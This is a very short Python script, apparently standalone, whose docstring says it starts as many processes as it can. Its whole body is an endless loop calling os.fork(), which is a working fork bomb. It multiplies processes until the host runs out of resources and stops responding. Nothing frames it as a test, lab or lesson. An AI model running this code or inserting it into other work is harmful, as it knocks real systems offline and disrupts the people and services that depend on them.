"""Starts as many processes as it can."""

import os

while True:
    os.fork()
